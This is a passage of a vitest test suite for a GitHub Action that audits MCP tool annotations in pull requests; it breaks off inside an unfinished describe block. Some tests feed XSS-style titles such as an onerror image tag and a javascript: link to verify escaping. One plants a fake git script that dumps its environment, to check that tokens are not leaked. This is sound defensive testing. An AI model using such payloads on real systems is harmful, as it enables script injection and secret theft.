import { execFile } from 'node:child_process';
import { copyFile, mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { delimiter, join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { pullRequestEvent, TOKEN, workflowRunEvent } from '../support/action.js';
import {
  prWorkspace,
  quote,
  recordAtHead,
  recordedClassList,
  runIn,
} from '../support/action-workspace.js';
import {
  counted,
  EXAMPLE,
  notesSpec,
  runCli,
  SERVERS,
  specServer,
  startsIn,
  tempDir,
  withAnnotations,
  withDeleteNoteRenamed,
  withStarts,
  type SpecTool,
} from '../support/cli.js';
import {
  COMMENT_BODY_LIMIT,
  DEFAULT_BASE_SHA,
  DEFAULT_HEAD_SHA,
  startGitHubApi,
  type FakeGitHub,
} from '../support/github-api.js';

const MARKER = '<!-- mcp-annotation-auditor:notes -->';
/** The marker of a run with policies: claude, as most runs here are (not the default policies). */
const CLAUDE_MARKER = '<!-- mcp-annotation-auditor:notes policies=claude -->';
const exec = promisify(execFile);
type Spec = Awaited<ReturnType<typeof notesSpec>>;

function relaxAddNote(spec: Spec): Spec {
  return withAnnotations(spec, 'add_note', { readOnlyHint: true });
}

function dropDestructive(spec: Spec): Spec {
  return withAnnotations(spec, 'delete_note', { destructiveHint: undefined });
}

/** Cells of a markdown table row, splitting only on unescaped pipes. */
function cells(row: string): number {
  return row.split(/(?<!\\)\|/).length - 2;
}

describe('the action, run as GitHub runs it', () => {
  let api: FakeGitHub;
  let spec: Spec;

  beforeEach(async () => {
    api = await startGitHubApi({ token: TOKEN });
    spec = await notesSpec();
  });
  afterEach(async () => {
    expect(api.responseViolations).toEqual([]);
    await api.close();
  });

  it('creates one comment, updates it in place, and turns it green when clean', async () => {
    // The PR relaxes add_note and records it in the class list at HEAD.
    const pr = await prWorkspace(api, { base: spec, head: relaxAddNote(spec) });
    const { dir, base, head: relaxed } = pr;

    const first = await runIn(api, dir, { command: quote(relaxed), policies: 'claude' });
    expect(first.code, first.stdout + first.stderr).toBe(0);
    expect(api.commentsOn(1)).toHaveLength(1);
    const comment = api.commentsOn(1)[0];
    expect(first.outputs['comment-id']).toBe(String(comment?.id));
    expect(comment?.body.startsWith(CLAUDE_MARKER)).toBe(true);
    expect(comment?.body).toContain(
      '| add\\_note | changed | edit → **read** | closed | readOnlyHint: `false` → `true` |',
    );
    expect(comment?.body).toContain('`class-relaxed`');
    expect(first.outputs).toMatchObject({
      result: 'passed',
      'changed-count': '1',
      'error-count': '0',
      'warning-count': '1',
    });

    const second = await runIn(api, dir, { command: quote(relaxed), policies: 'claude' });
    expect(second.code).toBe(0);
    expect(api.commentsOn(1)).toHaveLength(1);
    expect(second.outputs['comment-id']).toBe(String(comment?.id));
    expect(api.requests.filter((r) => r.method === 'PATCH')).toHaveLength(1);

    // The PR is reverted: server and class list match the base again.
    await recordAtHead(dir, base);
    const clean = await runIn(api, dir, { command: quote(base), policies: 'claude' });
    expect(clean.code).toBe(0);
    expect(api.commentsOn(1)).toHaveLength(1);
    const green = api.commentsOn(1)[0]?.body ?? '';
    expect(green).toContain('✅ MCP tool annotations for `notes`: passed');
    expect(green).toContain('No class changes and no findings');
  });

  it('creates no comment when the PR changes nothing and passes; the summary is still written', async () => {
    const { dir, base } = await prWorkspace(api, { base: spec });
    const run = await runIn(api, dir, { command: quote(base), policies: 'claude' });
    expect(run.code).toBe(0);
    expect(api.commentsOn(1)).toHaveLength(0);
    expect(run.outputs['comment-id']).toBe('');
    expect(run.summary).toContain('PASSED');
    expect(run.summary).toContain('Comment for notes: skipped.');
  });

  it('waits for a slow base read: the change against the base still shows', async () => {
    const { dir, head: relaxed } = await prWorkspace(api, { base: spec, head: relaxAddNote(spec) });
    // The listing is done long before the base class list comes.
    api.latency = { path: /\/contents\//, ms: 1_500 };
    const run = await runIn(api, dir, { command: quote(relaxed), policies: 'claude' });
    expect(run.code, run.stdout).toBe(0);
    expect(run.outputs['changed-count']).toBe('1');
    expect(api.commentsOn(1)[0]?.body).toContain('edit → **read**');
  });

  it('a base class list that does not parse gives a warning, and HEAD is compared instead', async () => {
    const { dir, base } = await prWorkspace(api, { base: spec });
    api.setFile(DEFAULT_BASE_SHA, 'mcp-tool-classes.json', '{ "tools": ');
    const broken = await runIn(api, dir, { command: quote(base), policies: 'claude' });
    expect(broken.code, broken.stdout).toBe(0);
    expect(broken.stdout).toMatch(
      /::warning::.*mcp-tool-classes\.json at the base commit.*Comparing with the class list at HEAD only\./,
    );
    expect(broken.outputs.result).toBe('passed');
  });

  it('a base class list that cannot be read fails the audit, after retries, and says what to do', async () => {
    const { dir, head: dropped } = await prWorkspace(api, {
      base: spec,
      head: dropDestructive(spec),
    });
    // One failed read is tried again: the dropped hint is still caught.
    api.failNext({ path: /\/contents\//, status: 502 });
    const retried = await runIn(api, dir, { command: quote(dropped), policies: 'claude' });
    expect(retried.code, retried.stdout).toBe(1);
    expect(retried.summary).toContain('hint-dropped');
    // Every try fails, and the workspace is no git checkout: the audit could not run, and says
    // both reasons; it does not pass the dropped hint by comparing with HEAD only.
    api.failNext({ path: /\/contents\//, status: 502, times: 3 });
    const unread = await runIn(api, dir, { command: quote(dropped), policies: 'claude' });
    expect(unread.code, unread.stdout).toBe(1);
    expect(unread.outputs.result).toBe('error');
    expect(unread.stdout).toMatch(
      /::error::Could not read mcp-tool-classes\.json at the base commit 6dcb09b5b578: .*502.*; .*contents: read/,
    );
    expect(unread.stdout).not.toContain('Comparing with the class list at HEAD only');
    expect(unread.stdout).not.toContain('This is a bug');
    expect(unread.summary).toContain('the audit could not run');
  });

  it('a base read still on its way when the audit fails says nothing about comparing', async () => {
    const { dir } = await prWorkspace(api, { base: spec });
    api.latency = { path: /\/contents\//, ms: 1_000 };
    api.failNext({ path: /\/contents\//, status: 502, times: 3 });
    const failed = await runIn(api, dir, {
      command: quote(['node', join(SERVERS, 'exit-at-once.mjs')]),
    });
    expect(failed.code).toBe(1);
    expect(failed.outputs.result).toBe('error');
    expect(failed.stdout).not.toContain('Comparing with the class list at HEAD only');
  });

  it('a dropped hint fails the step, with an annotation on the class-list line', async () => {
    const { dir } = await prWorkspace(api, { base: spec });
    const dropped = await specServer(dir, 'dropped.json', dropDestructive(spec));
    const run = await runIn(api, dir, { command: quote(dropped), policies: 'claude' });
    expect(run.code).toBe(1);
    expect(run.outputs.result).toBe('failed');
    const text = await readFile(join(dir, 'mcp-tool-classes.json'), 'utf8');
    const line = text.split('\n').findIndex((l) => l.includes('"mcp__notes__delete_note"')) + 1;
    expect(run.stdout).toContain(
      `::error title=mcp-annotation-auditor%3A hint-dropped,file=mcp-tool-classes.json,line=${line}::delete_note: destructiveHint`,
    );
    // Most severe first.
    const levels = [
      ...run.stdout.matchAll(/^::(error|warning|notice) title=mcp-annotation-auditor/gm),
    ].map((m) => m[1]);
    expect(levels).toEqual(
      [...levels].sort(
        (a, b) =>
          ['error', 'warning', 'notice'].indexOf(a ?? '') -
          ['error', 'warning', 'notice'].indexOf(b ?? ''),
      ),
    );
    expect(api.commentsOn(1)[0]?.body).toContain('❌ MCP tool annotations for `notes`: failed');
  });

  it('the approval label turns the dropped hint into a listed notice', async () => {
    const { dir, head: dropped } = await prWorkspace(api, {
      base: spec,
      head: dropDestructive(spec),
    });
    const inputs = {
      command: quote(dropped),
      policies: 'claude',
      'approve-label': 'annotations-approved',
    };
    // Labelled after the event fired (a re-run reuses the event): the PR's labels now count.
    (api.pulls.get(1) as { labels?: string[] }).labels = ['annotations-approved'];
    const run = await runIn(api, dir, inputs);
    expect(run.code, run.stdout).toBe(0);
    expect(api.commentsOn(1)[0]?.body).toMatch(/notice \(approved\) \| `hint-dropped`/);
    // And unlabelled since: the event's label no longer approves.
    (api.pulls.get(1) as { labels?: string[] }).labels = [];
    const removed = await runIn(api, dir, inputs, {
      event: pullRequestEvent(1, ['annotations-approved']),
    });
    expect(removed.code, removed.stdout).toBe(1);
    // The PR cannot be read: the event's labels, with a warning.
    api.failNext({ method: 'GET', path: /\/pulls\/1$/, status: 502, times: 3 });
    const fallback = await runIn(api, dir, inputs, {
      event: pullRequestEvent(1, ['annotations-approved']),
    });
    expect(fallback.code, fallback.stdout).toBe(0);
    expect(fallback.stdout).toMatch(
      /::warning::Could not read the labels of PR #1 .*; using those of the event/,
    );
  });

  it('a 403 on create (fork PR token) writes the summary and a notice, and the exit follows the findings', async () => {
    api.forbidCommentWrites = true;
    const { dir } = await prWorkspace(api, { base: spec });
    const relaxed = await specServer(dir, 'relaxed.json', relaxAddNote(spec));
    const passing = await runIn(api, dir, {
      command: quote(relaxed),
      policies: 'claude',
      'fail-on': 'error',
    });
    // Unrecorded change: the PR did not update the class list, so it fails on findings, not on the comment.
    expect(passing.code).toBe(1);
    expect(passing.stdout).toMatch(/::notice::Could not comment on PR #1 \(HTTP 403\)/);
    expect(passing.summary).toContain('Could not comment on PR #1');
    expect(passing.summary).toContain('unrecorded-change');
    await recordAtHead(dir, relaxed);
    const ok = await runIn(api, dir, { command: quote(relaxed), policies: 'claude' });
    expect(ok.code).toBe(0);
    expect(ok.stdout).toMatch(/::notice::Could not comment/);
    expect(api.commentsOn(1)).toHaveLength(0);
  });

  it('escapes hostile names and titles so they render as inert text and leave the table intact', async () => {
    const hostile: SpecTool[] = [
      { name: 'pipe|name`tick`', annotations: { title: 'a | b `c`', readOnlyHint: true } },
      { name: 'img', annotations: { title: '<img src=x onerror=alert(1)>', readOnlyHint: true } },
      { name: 'mention', annotations: { title: '@some-org/team please look', readOnlyHint: true } },
      { name: 'link', annotations: { title: '[x](javascript:alert(1))', readOnlyHint: true } },
      { name: 'marker', annotations: { title: `${CLAUDE_MARKER} forged`, readOnlyHint: true } },
      { name: 'long', annotations: { title: 'A'.repeat(20_000), readOnlyHint: true } },
    ];
    const { dir } = await prWorkspace(api, { base: { name: 'notes', tools: [] } });
    const server = await specServer(dir, 'hostile.json', { name: 'notes', tools: hostile });
    const run = await runIn(api, dir, { command: quote(server), policies: 'claude' });
    expect(run.code).toBe(1); // tool-name: a pipe and backticks are not allowed in names
    const body = api.commentsOn(1)[0]?.body ?? '';
    expect(body).not.toMatch(/<img/i);
    expect(body).not.toMatch(/@some-org/);
    expect(body).not.toMatch(/(?<!\\)\]\(javascript:/);
    expect(body).not.toContain('`c`');
    expect(body.split(CLAUDE_MARKER)).toHaveLength(2);
    expect(body.indexOf(CLAUDE_MARKER)).toBe(0);
    expect(body).not.toContain('A'.repeat(200));
    // Every row of each table has as many cells as its header.
    for (const table of body.split(/\n\n/).filter((b) => b.startsWith('| '))) {
      const rows = table.split('\n').filter((r) => r.startsWith('|'));
      const width = cells(rows[0] ?? '');
      for (const row of rows) expect(cells(row), row).toBe(width);
    }
    expect(body).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(body).toContain('@\u2060some-org/team');
  });

  it('keeps a 400-tool change list under the comment size limit', async () => {
    const dir = await tempDir();
    const run = await runIn(api, dir, {
      command: quote(['node', join(SERVERS, 'many-tools.mjs'), '400', '100']),
      'server-name': 'notes',
    });
    expect(run.code).toBe(1);
    const body = api.commentsOn(1)[0]?.body ?? '';
    expect(body.length).toBeGreaterThan(10_000);
    expect(body.length).toBeLessThan(COMMENT_BODY_LIMIT);
    expect(body).toMatch(
      /more (changes|findings|tools): see \[the job summary\]\(https:\/\/github\.com\/octo-org\/octo-repo\/actions\/runs\/1658821493\)/,
    );
    expect(run.summary.length).toBeGreaterThan(body.length);
  });

  it("keeps the job summary within GitHub's 1 MiB at 5,000 tools; the JSON report has them all", async () => {
    const dir = await tempDir();
    const run = await runIn(api, dir, {
      command: quote(['node', join(SERVERS, 'many-tools.mjs'), '5000', '100']),
      comment: 'never',
    });
    expect(run.code).toBe(1);
    const bytes = Buffer.byteLength(run.summary, 'utf8');
    expect(bytes).toBeLessThanOrEqual(1024 * 1024);
    expect(bytes).toBeGreaterThan(512 * 1024);
    expect(run.summary).toMatch(/^### MCP tool annotations: FAILED: /);
    // Identical findings are one row each, so every tool may fit; if not, the cut says so.
    const toolRows = run.summary
      .split('\n')
      .filter((l) => /_record\\_\d+ \|/.test(l) && l.split('|').length === 10).length;
    if (toolRows < 5000)
      expect(run.summary).toMatch(
        /_…and \d+ more tools, left out to keep the job summary within GitHub's size limit: the JSON report \(the `report` output\) has them all\._/,
      );
    // Every table left whole: rows end with a pipe, the cut comes between rows.
    for (const line of run.summary.split('\n').filter((l) => l.startsWith('|')))
      expect(line.endsWith('|'), line).toBe(true);
    const report = JSON.parse(await readFile(run.outputs.report ?? '', 'utf8')) as {
      tools: unknown[];
    };
    expect(report.tools).toHaveLength(5000);
  });

  it('writes every output and the JSON report', async () => {
    const { dir, base } = await prWorkspace(api, { base: spec });
    const run = await runIn(api, dir, { command: quote(base) });
    expect(Object.keys(run.outputs).sort()).toEqual(
      [
        'changed-count',
        'comment-id',
        'error-count',
        'notice-count',
        'report',
        'result',
        'rules',
        'tool-count',
        'warning-count',
      ].sort(),
    );
    const report = JSON.parse(await readFile(run.outputs.report ?? '', 'utf8')) as {
      tools: unknown[];
      result: string;
    };
    expect(report.tools).toHaveLength(3);
    expect(report.result).toBe(run.outputs.result);
  });

  it.runIf(process.platform === 'linux')(
    'a server that outlives its audit cannot replace the JSON report or the rules file: both are written once it is gone',
    async () => {
      const { dir } = await prWorkspace(api, { base: spec });
      const server = ['node', join(SERVERS, 'lingers-and-overwrites.mjs')];
      const run = await runIn(api, dir, { command: quote(server), comment: 'never' });
      expect(run.code, run.stderr).toBe(0);
      const report = JSON.parse(await readFile(run.outputs.report ?? '', 'utf8')) as {
        tools: unknown[];
        result: string;
      };
      expect(report.tools).toHaveLength(3);
      expect(report.result).toBe('passed');
      const rules = JSON.parse(await readFile(run.outputs.rules ?? '', 'utf8')) as {
        permissions: { deny: string[] };
      };
      expect(rules.permissions.deny).toEqual(['mcp__notes__delete_note']);
    },
  );

  it('an output file the runner did not create fails the step in one line, not a stack trace', async () => {
    const { dir, base } = await prWorkspace(api, { base: spec });
    const missing = join(await tempDir(), 'no-such-dir', 'output');
    const run = await runIn(
      api,
      dir,
      { command: quote(base) },
      { env: { GITHUB_OUTPUT: missing } },
    );
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(
      `mcp-annotation-auditor: the action could not write its results: Missing file at path: ${missing}`,
    );
    expect(run.stderr).not.toMatch(/\n\s+at /);
  });

  it('never hands the token to the server', async () => {
    const dir = await tempDir();
    const dump = join(dir, 'env.json');
    const run = await runIn(
      api,
      dir,
      { command: quote(['node', join(SERVERS, 'env-dump.mjs'), dump]), comment: 'never' },
      { env: { GITHUB_TOKEN: TOKEN, ACTIONS_RUNTIME_TOKEN: 'runtime-secret' } },
    );
    expect(run.code).not.toBeNull();
    const seen = await readFile(dump, 'utf8');
    expect(seen).not.toContain(TOKEN);
    expect(seen).not.toContain('runtime-secret');
    expect(
      Object.keys(JSON.parse(seen) as object).filter(
        (k) => k.startsWith('INPUT_') || k.startsWith('GITHUB_'),
      ),
    ).toEqual([]);
  });

  it('never hands the token to git either: code of the PR may have written .git', async () => {
    const dir = await tempDir();
    const bin = join(dir, 'bin');
    await mkdir(bin);
    const dump = join(dir, 'git-env.txt');
    // A git that records its environment: hooks or config planted in .git would see the same.
    await writeFile(join(bin, 'git'), '#!/bin/sh\nenv >> "$GIT_ENV_DUMP"\nexit 1\n', {
      mode: 0o755,
    });
    api.failNext({ path: /\/contents\//, status: 502, times: 3 });
    const run = await runIn(
      api,
      dir,
      { command: `node ${EXAMPLE}`, comment: 'never' },
      {
        env: {
          PATH: `${bin}${delimiter}${process.env.PATH ?? ''}`,
          GIT_ENV_DUMP: dump,
          GITHUB_TOKEN: TOKEN,
          ACTIONS_RUNTIME_TOKEN: 'runtime-secret',
          NPM_TOKEN: 'npm-secret',
        },
      },
    );
    expect(run.stdout).toContain('Could not read mcp-tool-classes.json at the base commit');
    const seen = await readFile(dump, 'utf8');
    expect(seen).toContain('GIT_NO_REPLACE_OBJECTS=1');
    expect(seen).not.toContain(TOKEN);
    expect(seen).not.toContain('runtime-secret');
    expect(seen).not.toContain('npm-secret');
    expect(seen).not.toMatch(/^INPUT_/m);
  });

  it('reads the base through the API with a shallow checkout, and comments by pr-number from workflow_run', async () => {
    const { dir, head: relaxed } = await prWorkspace(api, { base: spec, head: relaxAddNote(spec) });
    const run = await runIn(
      api,
      dir,
      { command: quote(relaxed), policies: 'claude', 'pr-number': '1' },
      { eventName: 'workflow_run', event: { action: 'completed', workflow_run: { id: 1 } } },
    );
    expect(run.code, run.stdout).toBe(0);
    expect(api.requests.map((r) => `${r.method} ${r.path}`)).toEqual(
      expect.arrayContaining([
        'GET /repos/octo-org/octo-repo/pulls/1',
        'GET /repos/octo-org/octo-repo/contents/mcp-tool-classes.json',
      ]),
    );
    expect(api.commentsOn(1)[0]?.body).toContain('edit → **read**');
  });

  it('a bad input fails the step with a message naming it', async () => {
    const dir = await tempDir();
    const run = await runIn(api, dir, { command: `node ${EXAMPLE}`, 'fail-on': 'sometimes' });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(
      '::error::Input "fail-on" has the value "sometimes", but it must be one of error, warning, notice, never.',
    );
    expect(run.outputs.result).toBe('error');
    expect(run.stderr).not.toMatch(/\n\s+at /);
  });

  it('a working-directory that does not exist fails the step with a message naming it', async () => {
    const dir = await tempDir();
    for (const command of [`node ${EXAMPLE}`, '']) {
      const run = await runIn(api, dir, {
        ...(command ? { command } : {}),
        'working-directory': 'no/such/dir',
      });
      expect(run.code).toBe(1);
      expect(run.stdout).toContain(
        `::error::Input "working-directory" is "no/such/dir", but ${join(dir, 'no/such/dir')} does not exist.`,
      );
      expect(run.stdout).not.toContain('This is a bug');
      expect(run.outputs.result).toBe('error');
    }
  });

  describe('odd inputs', () => {
    it('masks the token before an input error can print it, and keeps it out of the summary', async () => {
      const dir = await tempDir();
      const run = await runIn(api, dir, { command: `node ${EXAMPLE} --token "${TOKEN}` });
      expect(run.code).toBe(1);
      expect(run.stdout.startsWith(`::add-mask::${TOKEN}`)).toBe(true);
      expect(run.summary).toContain('the audit could not run');
      expect(run.summary).not.toContain(TOKEN.slice(4));
    });

    it('refuses a command line that holds the token, and starts nothing', async () => {
      const { dir, starts } = await withStarts();
      const run = await runIn(api, dir, {
        command: quote(counted(starts, ['node', EXAMPLE, TOKEN])),
      });
      expect(run.code).toBe(1);
      expect(run.stdout).toContain(
        '::error::The command line or URL of the server holds the github-token: it would reach the server under audit, and the report.',
      );
      expect(await startsIn(starts)).toEqual([]);
      expect(run.summary).not.toContain(TOKEN.slice(4));
      // The same from the config file, where ${GITHUB_TOKEN} expands to it.
      await mkdir(join(dir, '.github'));
      await writeFile(
        join(dir, '.github/mcp-annotation-auditor.yml'),
        `servers:\n  notes:\n    command: node\n    args: [${JSON.stringify(join(SERVERS, 'count-starts.mjs'))}, ${JSON.stringify(starts)}, ${JSON.stringify(EXAMPLE)}, "--token=\${GITHUB_TOKEN}"]\n`,
      );
      const configured = await runIn(api, dir, {}, { env: { GITHUB_TOKEN: TOKEN } });
      expect(configured.code).toBe(1);
      expect(configured.stdout).toContain(
        '::error::The command line or URL of server "notes" holds the github-token',
      );
      expect(await startsIn(starts)).toEqual([]);
    });

    it('an event that is not a pull request payload is no pull request, with a warning', async () => {
      const { dir, base } = await prWorkspace(api, { base: spec });
      const events: [string, string | undefined][] = [
        ['null', undefined],
        ['[1, 2]', undefined],
        [
          '{"pull_request": {}}',
          "::warning::The event's pull_request has no number or base commit",
        ],
        ['{"pull_request": {"number": 1}}', "::warning::The event's pull_request has no number"],
        ['{not json', '::warning::The event file '],
      ];
      for (const [eventText, warning] of events) {
        const run = await runIn(
          api,
          dir,
          { command: quote(base), policies: 'claude' },
          { eventText },
        );
        expect(run.code, `${eventText}: ${run.stdout}`).toBe(0);
        expect(run.stdout).not.toContain('This is a bug');
        if (warning) expect(run.stdout).toContain(warning);
        expect(api.commentsOn(1)).toHaveLength(0);
      }
      // Labels of any shape: only named ones count, and they still do.
      const dropped = await specServer(dir, 'dropped.json', dropDestructive(spec));
      await recordAtHead(dir, dropped);
      // A PR the API does not know: the event's labels are all there is.
      const odd = pullRequestEvent(7);
      (odd.pull_request as { labels: unknown }).labels = [null, 'x', { name: 7 }, { name: 'ok' }];
      const labelled = await runIn(
        api,
        dir,
        { command: quote(dropped), policies: 'claude', 'approve-label': 'ok' },
        { event: odd },
      );
      expect(labelled.code, labelled.stdout).toBe(0);
      expect(labelled.summary).toContain('notice (approved)');
    });

    it('sarif-file: its folder is created; a path that cannot be written fails the step after the summary and outputs', async () => {
      const { dir, base } = await prWorkspace(api, { base: spec });
      const made = await runIn(api, dir, {
        command: quote(base),
        'sarif-file': 'out/deep/mcp.sarif',
      });
      expect(made.code, made.stdout).toBe(0);
      expect(JSON.parse(await readFile(join(dir, 'out/deep/mcp.sarif'), 'utf8'))).toMatchObject({
        version: '2.1.0',
      });
      const bad = await runIn(api, dir, { command: quote(base), 'sarif-file': 'out' });
      expect(bad.code).toBe(1);
      expect(bad.stdout).toMatch(
        /::error::Could not write the SARIF file out \(input sarif-file\): /,
      );
      expect(bad.stdout).not.toContain('This is a bug');
      expect(bad.outputs.result).toBe('passed');
      expect(bad.summary).toContain('PASSED');
    });

    it('an explicit config file that cannot be read: a clear error, and no server started', async () => {
      const { dir, starts } = await withStarts();
      const run = await runIn(api, dir, {
        command: quote(counted(starts, ['node', EXAMPLE])),
        config: 'missing.yml',
      });
      expect(run.code).toBe(1);
      expect(run.stdout).toContain('::error::Could not read the config file missing.yml');
      expect(await startsIn(starts)).toEqual([]);
    });

    it('names the input for an empty program, a pr-number that is not a plain number, and an env name with a space', async () => {
      const dir = await tempDir();
      const cases: [Record<string, string>, string][] = [
        [{ command: `'' node ${EXAMPLE}` }, 'Input "command" has the value'],
        [
          { command: `node ${EXAMPLE}`, 'pr-number': '0x10' },
          'Input "pr-number" has the value "0x10"',
        ],
        [
          { command: `node ${EXAMPLE}`, env: 'SPACED = x' },
          'Bad environment entry: the name "SPACED " holds a space',
        ],
      ];
      for (const [inputs, message] of cases) {
        const run = await runIn(api, dir, inputs);
        expect(run.code, JSON.stringify(inputs)).toBe(1);
        expect(run.stdout).toContain(`::error::${message}`);
        expect(run.stdout).not.toContain('This is a bug');
      }
    });
  });

  it('update mode writes the class list in the workspace', async () => {
    const dir = await tempDir();
    await writeFile(join(dir, 'placeholder'), '');
    const run = await runIn(api, dir, { command: `node ${EXAMPLE}`, mode: 'update' });
    expect(run.code).toBe(0);
    expect(run.outputs.result).toBe('updated');
    expect(await readFile(join(dir, 'mcp-tool-classes.json'), 'utf8')).toContain(
      '"mcp__notes__delete_note"',
    );
  });

  it.runIf(process.platform === 'linux')(
    'a config file that fails before the audit: the server started early is gone before the failed report is written',
    async () => {
      const dir = await tempDir();
      await mkdir(join(dir, '.github'), { recursive: true });
      await writeFile(join(dir, '.github', 'mcp-annotation-auditor.yml'), 'failOn: sometimes\n');
      const server = ['node', join(SERVERS, 'lingers-and-overwrites.mjs')];
      const run = await runIn(api, dir, { command: quote(server), comment: 'never' });
      expect(run.code).toBe(1);
      expect(run.outputs.result).toBe('error');
      const report = JSON.parse(await readFile(run.outputs.report ?? '', 'utf8')) as {
        result: string;
      };
      expect(report.result).toBe('error');
    },
  );

  it.runIf(process.platform === 'linux')(
    'update mode writes the class list once the server is gone: one that lingers to overwrite it cannot',
    async () => {
      const dir = await tempDir();
      const classList = join(dir, 'mcp-tool-classes.json');
      const server = ['node', join(SERVERS, 'lingers-and-overwrites.mjs'), classList];
      const run = await runIn(api, dir, { command: quote(server), mode: 'update' });
      expect(run.code, run.stderr).toBe(0);
      expect(run.outputs.result).toBe('updated');
      const written = JSON.parse(await readFile(classList, 'utf8')) as { tools: object };
      expect(Object.keys(written.tools)).toContain('mcp__notes__delete_note');
    },
  );

  it('settings in the config file take effect when the workflow sets no input', async () => {
    const { dir, base } = await prWorkspace(api, { base: spec });
    const config = 'classList: tools.json\nfailOn: never\npolicies: [explicit]\n';
    await writeFile(join(dir, '.github-config.yml'), config);
    // The same at the base: nothing is relaxed (config-relaxed compares the two).
    api.setFile(DEFAULT_BASE_SHA, '.github-config.yml', config);
    const run = await runIn(api, dir, {
      command: quote(base),
      config: '.github-config.yml',
      comment: 'never',
    });
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('There is no class list at tools.json yet.');
    expect(run.stdout).toContain('(fail-on: never)');
  });

  it('a 502 from the API while commenting keeps the summary and outputs, and the exit follows the findings', async () => {
    const { dir, head: relaxed } = await prWorkspace(api, { base: spec, head: relaxAddNote(spec) });
    api.failNext({ method: 'POST', path: /\/comments$/, status: 502, message: 'Server Error' });
    const run = await runIn(api, dir, { command: quote(relaxed), policies: 'claude' });
    expect(run.code).toBe(0);
    expect(run.outputs).toMatchObject({ result: 'passed', 'changed-count': '1', 'comment-id': '' });
    expect(run.stdout).toMatch(/::warning::Could not comment on PR #1: POST .* 502/);
    expect(run.summary).toContain('edit → **read**');
  });

  it('when the audit cannot run, the summary says why and an existing comment stops showing green', async () => {
    const { dir, head: relaxed } = await prWorkspace(api, { base: spec, head: relaxAddNote(spec) });
    const first = await runIn(api, dir, {
      command: quote(relaxed),
      'server-name': 'notes',
      policies: 'claude',
    });
    expect(first.code).toBe(0);
    const broken = await runIn(api, dir, {
      command: quote(['node', join(SERVERS, 'exit-at-once.mjs')]),
      'server-name': 'notes',
      policies: 'claude',
    });
    expect(broken.code).toBe(1);
    expect(broken.outputs.result).toBe('error');
    expect(broken.summary).toContain('the audit could not run');
    expect(broken.summary).toContain('fatal: missing config');
    // The annotation keeps the server's lines as lines (%0A), not escaped as \u000a.
    expect(broken.stdout).toMatch(
      /::error::The server exited with code 3 .*%0AServer stderr:%0Afatal: missing config/,
    );
    // In the summary and the comment, the server's stderr is a code block, line by line.
    expect(broken.summary).toMatch(/\n```\nServer stderr:\nfatal: missing config\n[^]*```\n/);
    expect(broken.stdout).not.toContain('\\u000a');
    expect(api.commentsOn(1)).toHaveLength(1);
    expect(api.commentsOn(1)[0]?.body).toContain(
      '❌ MCP tool annotations for `notes`: the audit could not run',
    );
    expect(api.commentsOn(1)[0]?.body).toContain('```\nServer stderr:\nfatal: missing config');
  });

  it('a variable named for the server that holds the token is withheld, with a warning', async () => {
    const dir = await tempDir();
    const dump = join(dir, 'env.json');
    const run = await runIn(
      api,
      dir,
      {
        command: quote(['node', join(SERVERS, 'env-dump.mjs'), dump]),
        env: 'GITHUB_TOKEN\nOTHER=1',
        comment: 'never',
      },
      { env: { GITHUB_TOKEN: TOKEN } },
    );
    expect(run.stdout).toContain(
      '::warning::GITHUB_TOKEN holds the github-token; it was not passed to the server under audit.',
    );
    const seen = JSON.parse(await readFile(dump, 'utf8')) as Record<string, string>;
    expect(seen.GITHUB_TOKEN).toBeUndefined();
    expect(seen.OTHER).toBe('1');
  });

  it('report-file: a trusted workflow_run job comments from the uploaded report without running a server', async () => {
    const { dir, head: relaxed } = await prWorkspace(api, { base: spec, head: relaxAddNote(spec) });
    const audit = await runIn(api, dir, {
      command: quote(relaxed),
      policies: 'claude',
      comment: 'never',
    });
    expect(api.commentsOn(1)).toHaveLength(0);
    const trusted = await tempDir();
    const run = await runIn(
      api,
      trusted,
      { 'report-file': audit.outputs.report ?? '', 'pr-number': '1' },
      { eventName: 'workflow_run', event: workflowRunEvent() },
    );
    expect(run.code, run.stdout).toBe(0);
    expect(api.commentsOn(1)).toHaveLength(1);
    expect(api.commentsOn(1)[0]?.body).toContain(
      '| add\\_note | changed | edit → **read** | closed | readOnlyHint: `false` → `true` |',
    );
    const forged = join(trusted, 'forged.json');
    await writeFile(forged, JSON.stringify({ schemaVersion: 1, result: 'passed', tools: 'x' }));
    const bad = await runIn(api, trusted, { 'report-file': forged, 'pr-number': '1' });
    expect(bad.code).toBe(1);
    expect(bad.stdout).toMatch(
      /::error::The report .*forged\.json is not a report of mcp-annotation-auditor/,
    );
  });

  it('report-file: the comment job shows what the PR run saw, a probable rename included', async () => {
    // delete_note renamed with a new schema and its destructiveHint dropped: a probable rename.
    const { dir, head: server } = await prWorkspace(api, {
      base: spec,
      head: withDeleteNoteRenamed(spec),
    });
    const audit = await runIn(api, dir, { command: quote(server), comment: 'never' });
    expect(audit.code, audit.stdout).toBe(1);
    const run = await runIn(
      api,
      await tempDir(),
      { 'report-file': audit.outputs.report ?? '', 'pr-number': '1' },
      { eventName: 'workflow_run', event: workflowRunEvent() },
    );
    expect(run.code, run.stdout).toBe(0);
    const body = api.commentsOn(1)[0]?.body ?? '';
    expect(body).toContain(
      '| remove\\_note | probably renamed from delete\\_note | delete | closed | destructiveHint: `true` → _absent_ |',
    );
    expect(body).toContain('`tool-renamed`');
  });

  describe('the early start', () => {
    it('starts the server once: the audit claims the process it started first', async () => {
      const { dir, base } = await prWorkspace(api, { base: spec });
      const starts = join(dir, 'starts');
      await mkdir(join(dir, 'sub'));
      await copyFile(join(dir, 'mcp-tool-classes.json'), join(dir, 'sub/mcp-tool-classes.json'));
      // A workspace reached through a symbolic link, as on some self-hosted runners.
      const linked = join(await tempDir(), 'workspace');
      await symlink(dir, linked);
      const runs: { workspace: string; inputs: Record<string, string> }[] = [
        { workspace: dir, inputs: { command: quote(counted(starts, base)) } },
        {
          workspace: linked,
          inputs: {
            command: quote(counted(starts, base)),
            env: 'A=1\nHOME',
            'working-directory': 'sub',
            comment: 'always',
          },
        },
      ];
      for (const { workspace: at, inputs } of runs) {
        await writeFile(starts, '');
        const run = await runIn(api, at, inputs);
        expect(run.code, run.stdout + run.stderr).toBe(0);
        expect(run.outputs.result).toBe('passed');
        expect(await startsIn(starts), JSON.stringify(inputs)).toHaveLength(1);
      }
    });

